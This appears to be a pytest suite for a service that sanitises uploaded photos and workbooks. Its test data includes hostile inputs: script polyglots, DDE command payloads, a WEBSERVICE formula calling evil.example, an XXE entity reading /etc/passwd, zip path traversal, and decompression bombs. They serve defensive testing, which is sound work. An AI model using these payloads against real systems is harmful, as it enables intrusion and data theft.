"""What people send in: told by content, made anew in a cage, counted, kept whole or not at all, and nobody else's to read."""

from __future__ import annotations

import base64
import io
import json
import os
import re
import signal
import struct
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import IO, Any

import openpyxl
import pytest
from PIL import Image, ImageCms, PngImagePlugin

from tests.matrix import people
from tests.office_town import OWN, Town
from twin import caged, durable
from twin.api.limits import RATES, Limits, Rate
from twin.errors import NotFound, StoreBroken, UploadQuota, UploadRefused
from twin.settings import Settings
from twin.uploads import kinds, quota, remaking, shelf
from twin.uploads.quota import Quota
from twin.uploads.remaking import Remade
from twin.uploads.shelf import Shelf

ROOT = Path(__file__).resolve().parents[1]
ANNA, BERT = (f"{n * 8}-0000-4000-8000-000000000000" for n in "ab")
NOW = datetime(2026, 11, 22, 4, 0, tzinfo=UTC)
MOST = Quota(day_count=5, day_bytes=10_000_000, count=8, bytes=20_000_000)
SCRIPT = b"<script>alert(1)</script>"
RED, BLUE = (200, 20, 20), (20, 20, 200)


def picture(form: str = "JPEG", size: tuple[int, int] = (64, 48), mode: str = "RGB", **more: Any) -> bytes:
    image = Image.new(mode, size, RED if mode == "RGB" else 0)
    if mode == "RGB":
        image.paste(BLUE, (0, 0, size[0] // 2, size[1] // 2))
    out = io.BytesIO()
    image.save(out, form, **more)
    return out.getvalue()


def remade(data: bytes) -> Remade:
    with io.BytesIO(data) as told:
        kind = remaking.kind_of(told, len(data))
    with tempfile.TemporaryFile() as file:
        file.write(data)
        file.flush()
        return remaking.remake(file, kind)


def laid(data: bytes) -> IO[bytes]:
    """Lay bytes down as a received file lies: with a descriptor of its own."""
    file = tempfile.TemporaryFile()  # noqa: SIM115 - closed with the test
    file.write(data)
    file.flush()
    return file


def refused(data: bytes) -> str:
    with pytest.raises(UploadRefused) as error:
        remade(data)
    assert error.value.zh
    assert error.value.en
    return error.value.where["why"]


def exif(orientation: int = 1) -> Image.Exif:
    made = Image.Exif()
    made[0x0112] = orientation
    made[0x010F] = "PhoneMaker"
    made[0x9286] = "a comment of the person"
    made.get_ifd(0x8825).update({1: "N", 2: (30.0, 32.0, 11.0), 3: "E", 4: (119.0, 58.0, 1.0)})
    return made


def segments(data: bytes) -> list[tuple[int, bytes]]:
    """Parse the markers of a JPEG by hand, up to its scan."""
    assert data[:2] == b"\xff\xd8"
    found, at = [], 2
    while True:
        marker, length = data[at + 1], struct.unpack(">H", data[at + 2 : at + 4])[0]
        found.append((marker, data[at + 4 : at + 2 + length]))
        at += 2 + length
        if marker == 0xDA:
            return found


# photos

HEIC = base64.b64decode(
    "AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAghtZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAAAEZpbG9jAAAA"
    "AERAAAMAAQAAAAACLAABAAAAAAAAAHkAAgAAAAACpQABAAAAAAAAAHIAAwAAAAADFwABAAAAAAAAAAsAAABiaWluZgAAAAAAAwAAABVpbmZlAgAA"
    "AAABAABodmMxAAAAABVpbmZlAgAAAQACAABFeGlmAAAAACppbmZlAgAAAQADAABtaW1lAGFwcGxpY2F0aW9uL3JkZit4bWwAAAAAAA5waXRtAAAA"
    "AAABAAAA/WlwcnAAAADdaXBjbwAAAHZodmNDAQNwAAAAkAAAAAAAHvAA/P34+AAADwNgAAEAGEABDAH//wNwAAADAJAAAAMAAAMAHroCQGEAAQAq"
    "QgEBA3AAAAMAkAAAAwAAAwAeoCCBBZbq5Ka5uAhoMCAAAAMDIAAAAwAhYgABAAZEAcFzwIkAAAATY29scm5jbHgAAQANAAaAAAAAFGlzcGUAAAAA"
    "AAAAQAAAAEAAAAAoY2xhcAAAAEAAAAABAAAAMAAAAAEAAAAAAAAAAv////AAAAACAAAAEHBpeGkAAAAAAwgICAAAABhpcG1hAAAAAAAAAAEAAQWB"
    "AgMFhAAAAChpcmVmAAAAAAAAAA5jZHNjAAIAAQABAAAADmNkc2MAAwABAAEAAAD+bWRhdAAAAHUoAa8J4DkjJL///MKf3v9cUv/8zv3BOP4aLv/+"
    "JTo3/uPr1FdlXNmEjp2q4xlroP0DyxKkdxYtGnE+qjB2Fymd6A2tVCtCh+LhAM1KeD10M3+b8Fs/ZnBWAg24g/HpZifAwN2v4umnNLwDXqz0O8kA"
    "BHs1xp8AAAAGRXhpZgAATU0AKgAAAAgAAgEPAAIAAAALAAAAJoglAAQAAAABAAAAMgAAAABQaG9uZU1ha2VyAAAAAgABAAIAAAACTgAAAAACAAUA"
    "AAADAAAAUAAAAAAAAAAeAAAAAQAAACAAAAABAAAACwAAAAE8eD5Bbm5hPC94Pg=="
)
"""The same picture as a phone keeps it, with its maker, a place and a name: 64 × 48, made by pillow-heif 1.8.1."""


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP", "HEIC"])
def test_a_photo_is_kept_as_a_plain_jpeg_whatever_it_came_as(form: str) -> None:
    assert b"PhoneMaker" in HEIC
    made = remade(HEIC if form == "HEIC" else picture(form))
    assert b"PhoneMaker" not in made.content
    assert b"Anna" not in made.content
    assert [m for m, _ in segments(made.content) if m not in (0xE0, 0xDB, 0xC0, 0xC4, 0xDA)] == []
    with Image.open(io.BytesIO(made.content)) as image:
        assert (image.format, image.size, image.mode) == ("JPEG", (64, 48), "RGB")
        assert image.getpixel((60, 40))[0] > 150
        assert image.getpixel((5, 5))[2] > 150


def test_where_it_was_taken_by_what_and_every_word_of_it_are_gone_and_it_stands_upright() -> None:
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:li>Anna</rdf:li></x:xmpmeta>'
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    sent = picture(size=(400, 200), exif=exif(6), comment=b"taken by Anna", xmp=xmp, icc_profile=profile)
    for word in (b"PhoneMaker", b"Anna", b"ICC_PROFILE", b"Exif"):
        assert word in sent
    made = remade(sent)
    assert [m for m, _ in segments(made.content) if m not in (0xE0, 0xDB, 0xC0, 0xC4, 0xDA)] == []
    for word in (b"PhoneMaker", b"Anna", b"ICC", b"Exif", b"xmp", b"adobe"):
        assert word not in made.content
    with Image.open(io.BytesIO(made.content)) as image:
        assert dict(image.getexif()) == {}
        assert set(image.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
        assert image.size == (200, 400)
        assert image.getpixel((190, 10))[2] > 150, "what was top left is top right after a quarter turn"
    assert made.counted == {"width": 200, "height": 400}


@pytest.mark.parametrize("turn", range(1, 9))
def test_every_orientation_is_turned_as_a_viewer_would(turn: int) -> None:
    from PIL import ImageOps

    sent = picture(size=(80, 40), exif=exif(turn))
    with Image.open(io.BytesIO(sent)) as image:
        upright = ImageOps.exif_transpose(image)
    with Image.open(io.BytesIO(remade(sent).content)) as image:
        assert image.size == upright.size
        for at in ((4, 4), (upright.width - 5, 4), (4, upright.height - 5), (upright.width - 5, upright.height - 5)):
            assert (image.getpixel(at)[2] > 110) == (upright.getpixel(at)[2] > 110)


def test_a_large_photo_is_scaled_down_and_a_transparent_one_stands_on_white() -> None:
    assert remade(picture(size=(6000, 4000))).counted == {"width": 2560, "height": 1707}
    made = remade(picture("PNG", mode="RGBA"))
    with Image.open(io.BytesIO(made.content)) as image:
        assert image.getpixel((5, 5)) == (255, 255, 255)


POLYGLOTS = {
    "a page after the picture": lambda: picture() + SCRIPT,
    "a page in the comment": lambda: picture(comment=SCRIPT),
    "an archive after the picture": lambda: picture() + zipped({"Evil.class": b"\xca\xfe\xba\xbe"}),
    "a page in a text chunk": lambda: picture("PNG", pnginfo=text_chunk("Title", SCRIPT.decode())),
    "a page after the png": lambda: picture("PNG") + SCRIPT,
    "a page in the webp's xmp": lambda: picture("WEBP", xmp=SCRIPT),
}


def zipped(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def text_chunk(key: str, value: str) -> PngImagePlugin.PngInfo:
    info = PngImagePlugin.PngInfo()
    info.add_text(key, value)
    return info


@pytest.mark.parametrize("name", POLYGLOTS)
def test_of_a_file_that_is_two_things_only_the_picture_stays(name: str) -> None:
    sent = POLYGLOTS[name]()
    made = remade(sent)
    assert SCRIPT not in made.content
    assert b"PK\x03\x04" not in made.content
    assert remaking.is_plain_jpeg(made.content)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with(kind: bytes, data: bytes) -> bytes:
    """Put a chunk right after a PNG's header."""
    whole = picture("PNG")
    return whole[:33] + chunk(kind, data) + whole[33:]


def flood(width: int, height: int) -> bytes:
    """Give a tiny PNG that declares many pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * 10_000_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def wide_heic(width: int, height: int) -> bytes:
    """Write another size into the picture's own box."""
    at = HEIC.index(b"ispe") + 8
    return HEIC[:at] + struct.pack(">II", width, height) + HEIC[at + 8 :]


BOMB = zlib.compress(b"a" * 200_000_000, 9)
REFUSED: dict[str, tuple[Callable[[], bytes], set[str]]] = {
    "nothing": (lambda: b"", {"empty"}),
    "a drawing called a photo": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', {"picture"}),
    "a drawing with its declaration": (lambda: b'<?xml version="1.0"?><svg/>', {"unknown"}),
    "a page": (lambda: b"<!DOCTYPE html>" + SCRIPT, {"unknown"}),
    "a gif that is an archive": (lambda: picture("GIF") + zipped({"A.class": b"x"}), {"picture"}),
    "a tiff": (lambda: picture("TIFF"), {"picture"}),
    "a heic's first bytes": (lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 99, {"photo_broken"}),
    "half a heic": (lambda: HEIC[:600], {"photo_broken"}),
    "a heic that says it is a flood of pixels": (lambda: wide_heic(60_000, 60_000), {"pixels", "slow"}),
    "a moving heic": (lambda: b"\0\0\0\x18ftyphevc\0\0\0\0msf1hevc" + b"\0" * 99, {"heif"}),
    "an avif": (lambda: b"\0\0\0\x18ftypavif\0\0\0\0mif1avif" + b"\0" * 99, {"heif"}),
    "a pdf": (lambda: b"%PDF-1.7\n", {"pdf"}),
    "a program": (lambda: b"\x7fELF" + b"\0" * 99, {"unknown"}),
    "half a photo": (lambda: picture(size=(600, 600))[:1500], {"photo_broken"}),
    "the first bytes of a photo": (lambda: b"\xff\xd8\xff\xe0" + b"\0" * 20, {"photo_broken"}),
    "a photo's first bytes and a page": (lambda: b"\xff\xd8\xff" + SCRIPT, {"photo_broken"}),
    "a png's first bytes and rubbish": (lambda: b"\x89PNG\r\n\x1a\n" + os.urandom(500), {"photo_broken"}),
    "a flood of pixels": (lambda: flood(30_000, 30_000), {"pixels"}),
    "a line a million pixels long": (lambda: flood(1_000_000, 1), {"pixels"}),
    "a text chunk that unpacks to 200 MB": (lambda: png_with(b"zTXt", b"a\0\0" + BOMB), {"photo_broken"}),
    "an international text that unpacks to 200 MB": (
        lambda: png_with(b"iTXt", b"a\0\1\0\0\0" + BOMB),
        {"photo_broken"},
    ),
    "too large": (lambda: picture() + b"\0" * (16 << 20), {"size"}),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_no_sound_photo_is_refused_with_what_to_do(name: str) -> None:
    make, wanted = REFUSED[name]
    before = time.monotonic()
    assert refused(make()) in wanted
    assert time.monotonic() - before < 30


def test_a_colour_profile_that_unpacks_to_200_megabytes_hurts_nobody() -> None:
    sent = png_with(b"iCCP", b"a\0\0" + BOMB)
    try:
        assert len(remade(sent).content) < 100_000
    except UploadRefused as error:
        why = error.where["why"]
    else:
        why = "photo_broken"
    assert why in {"photo_broken", "slow"}


# workbooks


def book(fill: Callable[[Any], object] = lambda sheet: sheet.append(["a", 1])) -> bytes:
    made = openpyxl.Workbook()
    fill(made.active)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def altered(
    sent: bytes, add: dict[str, bytes] | None = None, change: Callable[[str, bytes], bytes] = lambda _, d: d
) -> bytes:
    """Write a workbook's archive anew with parts changed and added."""
    with zipfile.ZipFile(io.BytesIO(sent)) as archive:
        parts = {m: change(m, archive.read(m)) for m in archive.namelist()}
    return zipped({**parts, **(add or {})})


def values(content: bytes) -> list[list[Any]]:
    return [list(r) for r in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)]


def in_sheet(before: str, after: str) -> Callable[[str, bytes], bytes]:
    return lambda name, data: data.replace(before.encode(), after.encode()) if name.endswith("sheet1.xml") else data


def test_a_workbook_is_kept_as_its_values_and_nothing_else() -> None:
    day = datetime(2026, 3, 1)

    def fill(sheet: Any) -> None:
        sheet.title = "低收入"
        sheet.append(["户号", "人数", "日期", "是否"])
        sheet.append(["H1", 3, day, True])
        sheet["F9"] = 1.5
        sheet["A1"].hyperlink = "https://evil.example/"
        sheet.parent.properties.creator = "Anna"

    made = remade(book(fill))
    assert remaking.is_plain_workbook(made.content)
    assert values(made.content)[:2] == [["户号", "人数", "日期", "是否", None, None], ["H1", 3, day, True, None, None]]
    assert openpyxl.load_workbook(io.BytesIO(made.content)).sheetnames == ["低收入"]
    for word in (b"evil.example", b"Anna"):
        assert not any(word in data for data in unpacked(made.content))
    assert made.counted == {"sheets": 1, "cells": 9, "formulas": 0, "formulas_without_value": 0}


def unpacked(content: bytes) -> list[bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [archive.read(n) for n in archive.namelist()]


def test_formulas_become_their_values_and_texts_that_look_like_formulas_stay_texts() -> None:
    def fill(sheet: Any) -> None:
        sheet.append(["=1+1", "=HYPERLINK(A1)", "-5", "@x", "+86"])
        for at in ("C1", "D1", "E1"):
            sheet[at].data_type = "s"
        sheet["B1"].data_type = "s"

    sent = altered(book(fill), change=in_sheet("<f>1+1</f><v />", "<f>1+1</f><v>2</v>"))
    made = remade(sent)
    cells = openpyxl.load_workbook(io.BytesIO(made.content)).active[1]
    assert [(c.value, c.data_type) for c in cells] == [
        (2, "n"), ("=HYPERLINK(A1)", "s"), ("-5", "s"), ("@x", "s"), ("+86", "s")
    ]  # fmt: skip
    assert [c.quotePrefix for c in cells] == [False, True, True, True, True]
    assert not any(re.search(rb"<f[ >]", d) for d in unpacked(made.content))
    assert made.counted["formulas"] == 1
    assert remade(book(lambda s: s.append(["=A2*2"]))).counted["formulas_without_value"] == 1


NAMES = b'<?xml version="1.0"?><x/>'
HOSTILE_BOOKS: dict[str, tuple[Callable[[], bytes], set[str]]] = {
    "an archive of something else": (lambda: zipped({"a.txt": b"x"}), {"not_a_book"}),
    "a word document": (lambda: zipped({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}), {"not_a_book"}),
    "an old workbook": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, {"old"}),
    "macros": (lambda: altered(book(), {"xl/vbaProject.bin": b"x"}), {"macro"}),
    "macros by their type only": (
        lambda: altered(book(), change=lambda n, d: d.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")), {"macro"}),
    "an old macro sheet": (lambda: altered(book(), {"xl/macrosheets/sheet1.xml": NAMES}), {"macro"}),
    "another workbook drawn on": (lambda: altered(book(), {"xl/externalLinks/externalLink1.xml": NAMES}), {"linked"}),
    "a data connection": (lambda: altered(book(), {"xl/connections.xml": NAMES}), {"linked"}),
    "dde in a part of another name": (
        lambda: altered(book(), {"xl/x/y.xml": b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'}), {"linked"}),
    "dde in a formula": (lambda: book(lambda s: s.append(["=cmd|'/c calc'!A0"])), {"linked"}),
    "a formula that calls out": (lambda: book(lambda s: s.append(['=WEBSERVICE("http://evil.example/"&A1)'])), {"linked"}),
    "an embedded program": (lambda: altered(book(), {"xl/embeddings/oleObject1.bin": b"MZ"}), {"embedded"}),
    "a control": (lambda: altered(book(), {"xl/activeX/activeX1.xml": NAMES}), {"embedded"}),
    "an entity": (
        lambda: altered(book(), change=lambda n, d: d.replace(b"<worksheet", b'<!DOCTYPE x [<!ENTITY e "x">]><worksheet', 1)),
        {"book_broken"}),
    "an entity in utf-16": (
        lambda: altered(book(), {"xl/z.xml": '<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'.encode("utf-16")}),
        {"book_broken"}),
    "100 MB of zeros": (lambda: altered(book(), {"xl/media/zeros.xml": b"\0" * 100_000_000}), {"unpacks"}),
    "a thousand parts": (lambda: altered(book(), {f"xl/media/{n}.xml": b"" for n in range(1000)}), {"unpacks"}),
    "a part that climbs out": (lambda: altered(book(), {"../../etc/cron.d/x": b"x"}), {"book_broken"}),
    "a part from the root": (lambda: altered(book(), {"/etc/cron.d/x": b"x"}), {"book_broken"}),
    "half a workbook": (lambda: book()[:-200], {"book_broken"}),
    "too many cells": (lambda: book_of(210, 1_000), {"cells", "unpacks"}),
    "a cell at the far corner of every row": (
        lambda: altered(book(), change=in_sheet('<row r="1">', '<row r="1"><c r="XFD1"><v>1</v></c></row>' + "".join(
            f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(2, 400)) + '<row r="400">')), {"cells", "book_broken"}),
    "a cell in the last row there is": (
        lambda: altered(book(), change=in_sheet('<row r="1">', '<row r="1048576"><c r="A1048576"><v>1</v></c></row><row r="1048577">')),
        {"cells", "book_broken"}),
    "strings that grow": (
        lambda: altered(book(), {"xl/sharedStrings.xml": b"<sst><si><t>" + b"a" * 70_000_000 + b"</t></si></sst>"}), {"unpacks"}),
}  # fmt: skip


def book_of(rows: int, columns: int) -> bytes:
    made = openpyxl.Workbook(write_only=True)
    sheet = made.create_sheet()
    for _ in range(rows):
        sheet.append([1] * columns)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


@pytest.mark.parametrize("name", HOSTILE_BOOKS)
def test_a_workbook_that_is_more_than_a_table_is_refused_with_what_to_do(name: str) -> None:
    make, wanted = HOSTILE_BOOKS[name]
    assert refused(make()) in wanted


def test_a_part_that_lies_about_its_size_is_no_way_round_the_limit() -> None:
    sent = bytearray(altered(book(), {"xl/media/zeros.xml": b"\0" * 100_000_000}))
    at = sent.rindex(b"xl/media/zeros.xml") - 46
    sent[at + 24 : at + 28] = struct.pack("<I", 10)
    assert refused(bytes(sent)) in {"book_broken", "unpacks"}


# the cage


def test_the_child_that_reads_has_no_network_no_environment_and_hard_limits(monkeypatch: pytest.MonkeyPatch) -> None:
    probe = (
        "import json, os, resource, socket, sys; from twin import caged; caged.limit(json.loads(sys.argv[1]));"
        "caged.socketless(); told = {'env': sorted(os.environ), 'data': resource.getrlimit(resource.RLIMIT_DATA)[1]}\n"
        "try:\n socket.socket(); told['socket'] = True\nexcept OSError: told['socket'] = False\n"
        "print(json.dumps(told))"
    )
    done = subprocess.run(
        [sys.executable, "-P", "-c", probe, json.dumps(remaking.LIMITS)], env=caged.environment(), cwd="/",
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    told = json.loads(done.stdout)
    assert (told["socket"], told["data"]) == (False, remaking.LIMITS["DATA"])
    assert not [k for k in told["env"] if k.startswith("ONEMAP")]
    assert remade(picture()).counted == {"width": 64, "height": 48}
    monkeypatch.setattr(caged, "bubblewrap", lambda: None)
    assert remade(picture()).counted == {"width": 64, "height": 48}, "where bubblewrap does not work, limits hold alone"


@pytest.mark.parametrize(
    "said",
    [
        b"",
        b"no json\n",
        b"[]\n",
        b'{"width": "x"}\n',
        b'{"refused": "no such code"}\n',
        b'{"width": 1, "height": 1}\n' + SCRIPT,
    ],
)
def test_a_child_that_was_taken_over_is_not_believed(monkeypatch: pytest.MonkeyPatch, said: bytes) -> None:
    def taken_over(command: list[str], *, stdout: Any, **_: Any) -> Any:
        stdout.write(said)
        stdout.flush()
        return subprocess.CompletedProcess(command, 0)

    monkeypatch.setattr(remaking.subprocess, "run", taken_over)
    with pytest.raises(UploadRefused) as error:
        remaking.remake(laid(b""), "photo")
    assert error.value.where["why"] == "slow"


def test_a_child_that_dies_or_takes_too_long_is_refused_in_words(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(remaking, "LIMITS", {**remaking.LIMITS, "DATA": 8 << 20})
    assert refused(picture()) == "slow"
    monkeypatch.undo()
    monkeypatch.setattr(remaking, "SECONDS", 0.01)
    assert refused(picture()) == "slow"


def test_only_a_plain_jpeg_and_a_plain_workbook_are_taken_from_the_child() -> None:
    plain = picture()
    assert remaking.is_plain_jpeg(plain)
    for wrong in (
        picture(exif=exif()),
        picture(comment=b"x"),
        plain + SCRIPT,
        plain[:-2],
        picture("PNG"),
        b"",
        b"\xff\xd8\xff\xd9",
        picture(progressive=True),
    ):
        assert not remaking.is_plain_jpeg(wrong)
    assert remaking.is_plain_workbook(remade(book()).content)
    for wrong in (book(lambda s: s.append(["=1"])), altered(book(), {"xl/vbaProject.bin": b"x"}), b"", b"PK"):
        assert not remaking.is_plain_workbook(wrong)


# the shelf


def made_of(size: int = 1000) -> Remade:
    return Remade(kind="photo", content=b"\xff" * size, counted={"width": 1, "height": 1})


def put(on: Shelf, owner: str = ANNA, size: int = 1000, now: datetime = NOW, **more: Any) -> shelf.Upload:
    given = {"sent_bytes": size, "area": "330521199299", "most": MOST, "zone": "Asia/Shanghai", **more}
    return on.keep(owner, made_of(size), now=now, **given)


@pytest.fixture
def kept(tmp_path: Path) -> Shelf:
    return Shelf(data=tmp_path)


def test_a_quota_says_how_much_is_used_of_how_much_and_until_when(kept: Shelf) -> None:
    for n in range(5):
        put(kept, now=NOW + timedelta(minutes=n))
    with pytest.raises(UploadQuota) as error:
        put(kept, now=NOW + timedelta(hours=1))
    assert error.value.where == {
        "used_count": "5",
        "most_count": "5",
        "used_mb": "0",
        "most_mb": "10",
        "again_at": "2026-11-23 12:00",
    }
    assert "2026-11-23 12:00 之后" in error.value.zh
    put(kept, BERT)
    put(kept, now=NOW + timedelta(hours=24))
    with pytest.raises(UploadQuota):
        put(kept, now=NOW + timedelta(hours=24))
    with pytest.raises(UploadQuota, match="delete some"):
        put(kept, BERT, size=21_000_000)


def test_deleting_makes_room_to_keep_and_none_to_send(kept: Shelf) -> None:
    for _ in range(5):
        assert kept.remove(put(kept))
    assert kept.used(ANNA, NOW).count == 0
    with pytest.raises(UploadQuota, match="24 hours"):
        put(kept)


def test_many_at_once_never_pass_the_quota(kept: Shelf) -> None:
    done: list[str] = []

    def one() -> None:
        try:
            put(kept)
            done.append("kept")
        except UploadQuota:
            done.append("refused")

    threads = [threading.Thread(target=one) for _ in range(24)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(done) == ["kept"] * 5 + ["refused"] * 19
    assert len(kept.of(ANNA)) == kept.used(ANNA, NOW).count == 5


def test_nothing_is_kept_that_could_not_be_recorded(kept: Shelf) -> None:
    def down(_: shelf.Upload) -> None:
        raise StoreBroken("x", "x")

    with pytest.raises(StoreBroken):
        put(kept, record=down)
    assert kept.of(ANNA) == []
    assert kept.used(ANNA, NOW).sent == ()


CHILD = """
import sys
from tests.test_uploads import ANNA, put
from twin.uploads.shelf import Shelf
from pathlib import Path
print("go", flush=True)
put(Shelf(data=Path(sys.argv[1])), size=3_000_000)
"""


@pytest.mark.parametrize("call", ["write_bytes", "commit", "sync"])
def test_killed_in_the_middle_nothing_half_stays_and_the_next_one_sweeps(tmp_path: Path, call: str) -> None:
    where = {
        "write_bytes": "from pathlib import Path as P; o = P.write_bytes\ndef w(s, d): o(s, d[:999]); die()\nP.write_bytes = w",
        "commit": "durable.commit_directory = lambda *a: die()",
        "sync": "durable.sync_tree = lambda *a: die()",
    }[call]
    before = f"import os, signal\nfrom twin import durable\ndef die(): os.kill(os.getpid(), signal.SIGKILL)\n{where}\n"
    done = subprocess.run(
        [sys.executable, "-c", before + CHILD, str(tmp_path)], cwd=ROOT, capture_output=True, check=False
    )
    assert done.returncode == -signal.SIGKILL, done.stderr
    left = Shelf(data=tmp_path)
    assert left.of(ANNA) == []
    assert left.used(ANNA, NOW).bytes == 0
    put(left, size=500)
    assert not list((tmp_path / "uploads").rglob(f"{durable.TEMPORARY}*"))
    assert [u.bytes for u in left.of(ANNA)] == [500]


@pytest.mark.parametrize(
    "name",
    [
        "../x",
        "..",
        ".",
        "",
        "day.json",
        ".lock",
        "a/../../x",
        "%2e%2e",
        "a" * 27,
        "A" * 28,
        "a" * 28 + "\n",
        "\0",
        "a" * 5000,
    ],
)
def test_no_name_leads_off_the_shelf(kept: Shelf, name: str) -> None:
    put(kept)
    with pytest.raises(NotFound):
        kept.get(ANNA, name)
    assert kept.find(name) is None
    with pytest.raises(NotFound):
        put(kept, name)


def test_a_name_tells_nothing_and_bytes_that_changed_are_not_handed_out(kept: Shelf) -> None:
    upload = put(kept)
    assert shelf.ID.fullmatch(upload.id)
    assert not any(c.isdigit() for c in upload.id)
    kept.path(upload).write_bytes(b"other")
    with pytest.raises(StoreBroken):
        kept.content(upload)
    assert (kept.root.stat().st_mode & 0o077) == 0


# over HTTP


class Sent(Town):
    """A town whose people send files."""

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        self.front.state.who.limits = Limits({k: Rate(per_s=1e9, burst=10**9) for k in RATES})
        for who in ("resident", "grid_worker", "data_engineer", "system", "official with a purpose"):
            self.headers[who] = self.headers.get(who) or people.headers(self.accounts, who)

    def send(self, who: str, body: bytes, **more: str) -> Any:
        return self.client.post("/api/v1/uploads", content=body, headers={**OWN, **self.headers.get(who, {}), **more})

    def delete(self, who: str, name: str) -> Any:
        return self.client.delete(f"/api/v1/uploads/{name}", headers={**OWN, **self.headers.get(who, {})})


@pytest.fixture(scope="module")
def town(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sent]:
    built = Sent(tmp_path_factory.mktemp("uploads"))
    with built.client:
        yield built


def test_a_photo_is_sent_listed_handed_back_and_deleted_and_all_of_it_recorded(town: Sent) -> None:
    answer = town.send("grid_worker", picture(exif=exif(3)), **{"content-type": "text/html"})
    assert answer.status_code == 201, answer.text
    told = answer.json()
    assert (told["kind"], told["media_type"], told["width"]) == ("photo", "image/jpeg", 64)
    [listed] = town.get("grid_worker", "/api/v1/uploads").json()["uploads"]
    assert listed == told
    back = town.get("grid_worker", f"/api/v1/uploads/{told['id']}")
    assert back.headers["content-type"] == "image/jpeg"
    assert back.headers["content-disposition"] == f'attachment; filename="{told["id"]}.jpg"'
    assert back.headers["x-content-type-options"] == "nosniff"
    assert back.headers["content-security-policy"].startswith("sandbox;")
    assert back.headers["cache-control"] == "no-store"
    assert b"PhoneMaker" not in back.content
    assert town.delete("grid_worker", told["id"]).status_code == 204
    assert town.get("grid_worker", f"/api/v1/uploads/{told['id']}").status_code == 404
    for action in ("upload.received", "upload.deleted"):
        entry = town.written(action)[0]
        assert (entry["role"], json.loads(entry["detail"])["upload"]) == ("grid_worker", told["id"])


def form(town: Sent, who: str, file: bytes, **more: str) -> Any:
    fields = {"csrf": town.headers[who].get("x-csrf-token", ""), **more}
    headers = {**OWN, "cookie": town.headers[who]["cookie"]}
    return town.client.post(
        "/uploads/send",
        data=fields,
        files={"file": ("a.jpg", file, "text/html")},
        headers=headers,
        follow_redirects=False,
    )


def test_the_form_takes_a_file_shows_what_was_made_of_it_and_deletes_it_without_a_script(town: Sent) -> None:
    empty = town.get("resident", "/uploads")
    assert empty.status_code == 200
    assert "还没有上传过文件" in empty.text
    assert 'enctype="multipart/form-data"' in empty.text
    assert "<script" not in empty.text
    sent = form(town, "resident", HEIC, lang="en")
    assert sent.status_code == 303, sent.text
    shown = town.get("resident", sent.headers["location"]).text
    assert "JPEG of 64 × 48 pixels; place, device and words are gone" in shown
    assert "1 of 2,000 files kept" in shown
    [told] = town.get("resident", "/api/v1/uploads").json()["uploads"]
    assert f'src="/api/v1/uploads/{told["id"]}"' in shown
    assert told["id"] not in town.get("grid_worker", "/uploads").text
    headers = {**OWN, "cookie": town.headers["resident"]["cookie"]}
    fields = {"csrf": town.headers["resident"]["x-csrf-token"], "upload": told["id"]}
    assert town.client.post("/uploads/delete", data=fields, headers=headers, follow_redirects=False).status_code == 303
    assert town.written("upload.deleted")[0]["role"] == "resident"
    assert town.get("resident", "/api/v1/uploads").json()["uploads"] == []
    again = town.client.post("/uploads/delete", data=fields, headers=headers)
    assert (again.status_code, "没有找到" in again.text) == (404, True)


def test_a_file_that_is_not_taken_is_told_on_the_page_and_a_form_from_elsewhere_sends_nothing(town: Sent) -> None:
    refused_one = form(town, "resident", b"%PDF-1.7")
    assert refused_one.status_code == 415
    assert "不收 PDF" in refused_one.text
    assert "file-why" in refused_one.text
    nothing = form(town, "resident", b"")
    assert "文件是空的" in nothing.text
    forged = form(town, "resident", HEIC, csrf="x" * 43)
    assert forged.status_code == 403
    assert town.client.post("/uploads/send", data={"x": "y"}, headers={**OWN, "cookie": town.headers["resident"]["cookie"]}).status_code in (400, 403)  # fmt: skip
    assert town.get("resident", "/api/v1/uploads").json()["uploads"] == []
    for who in ("auditor", "security_admin"):
        assert town.get(who, "/uploads").status_code == 404


def test_a_refused_file_leaves_nothing_says_why_and_stands_in_the_record(town: Sent) -> None:
    answer = town.send(
        "resident", b"<svg/>", **{"content-type": "image/jpeg", "content-disposition": 'filename="a.jpg"'}
    )
    assert answer.status_code == 415
    body = answer.json()
    assert (body["code"], body["where"]["why"]) == ("upload", "picture")
    assert "JPEG" in body["zh"]
    assert town.get("resident", "/api/v1/uploads").json()["uploads"] == []
